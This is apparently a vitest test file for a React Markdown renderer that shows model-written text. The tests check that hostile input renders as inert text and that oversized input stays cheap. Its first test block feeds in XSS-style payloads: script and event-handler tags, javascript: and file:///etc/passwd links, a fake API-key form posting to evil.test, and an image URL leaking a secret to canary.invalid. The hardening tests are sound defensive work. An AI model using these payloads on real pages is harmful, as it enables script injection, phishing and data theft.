/** What a model wrote as Markdown: text, of which no element comes that could act, ask or fetch. */
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { canFormat } from '../../../src/renderer/parts/lanes/Formatted.tsx';
import { MarkdownTree } from '../../../src/renderer/parts/lanes/MarkdownTree.tsx';
import { markdownTree } from '../../../src/renderer/parts/lanes/markdown-tree.ts';
import type { LaneBlock } from '../../../src/shared/model/block-row.ts';

const html = (text: string): string =>
  renderToStaticMarkup(createElement(MarkdownTree, { text, tree: markdownTree(text)! }));

describe('I1 I2 I3 I9 I10 is shown as text', () => {
  test.each([
    '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>',
    '<iframe srcdoc="<p>x"></iframe><style>*{}</style><base href="https://evil.test/"><meta http-equiv="refresh">',
    '<form action="https://evil.test/"><input name="key" placeholder="Session expired, paste your API key"><button>Go</button></form>',
    '- [ ] Session expired, paste your API key\n- [x] done',
    '[a](javascript:alert(1)) [b](file:///etc/passwd) <vbscript:x> https://evil.test/\u202egnp.exe',
    '![a](https://canary.invalid/?d=secret) ![b][c]\n\n[c]: https://canary.invalid/x',
    '```mermaid\ngraph TD; A-->B\n```\n\n$$\\href{javascript:alert(1)}{x}$$',
  ])('%s', (text) => {
    expect(html(text)).not.toMatch(
      /<(?:script|img|svg|iframe|style|base|meta|form|input|button|textarea|a|link|object)\b/i,
    );
  });
});

describe('I7 I8 costs no more than its length', () => {
  const block = (chars: number, kind: 'text' | 'tool'): LaneBlock =>
    ({ kind, chars, valid: true, row: { open: false } }) as unknown as LaneBlock;

  test('a long one stays as it came', () => {
    for (const [kind, long] of [
      ['text', 20_000],
      ['tool', 300_000],
    ] as const)
      expect([canFormat(block(1_000, kind), false), canFormat(block(long, kind), false)]).toEqual([true, false]);
    expect(canFormat(block(1_000, 'text'), true)).toBe(false);
    // A code block of 5 MB, among others: no highlighter ever sees it.
    expect(canFormat(block(5_000_000, 'text'), false)).toBe(false);
  });

  test.each(['[', '> ', '* ', '`', '![', '<', '- - ', '1. a\n', '~~~\n', '[a]: b\n'])(
    'of %j all through no more is made than a window can hold',
    (piece) => {
      const text = piece.repeat(Math.floor(16_000 / piece.length));
      const tree = markdownTree(text);
      if (tree !== null) expect(html(text).length).toBeLessThan(10_000 * 60 + 2 * text.length);
    },
  );

  test.each(['*_', '[a](', '|a|b|\n|-|-|\n'])('%j all through stays as it came', (piece) => {
    expect(markdownTree(piece.repeat(Math.floor(16_000 / piece.length)))).toBeNull();
  });

  test('code of no language, or of one that nobody knows, is text like any other', () => {
    const code = '<b>&amp; /* '.repeat(1_000);
    for (const language of ['', 'no-such-language', '<script>']) {
      const made = html(`\`\`\`${language}\n${code}\n\`\`\``);
      expect(made.match(/<[a-z]+/g)).toEqual(
        language === '' ? ['<div', '<div', '<pre'] : ['<div', '<div', '<span', '<pre'],
      );
      expect(made).toContain(code.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'));
    }
  });

  test('a long answer is read', () => {
    const part =
      '## Trains\n\n**Lisbon** to *Porto* with `code` and [a link](https://a.example)\n\n- one\n- two\n\n```py\nprint(1)\n```\n\n';
    expect(markdownTree(part.repeat(Math.floor(16_000 / part.length)))).not.toBeNull();
  });
});
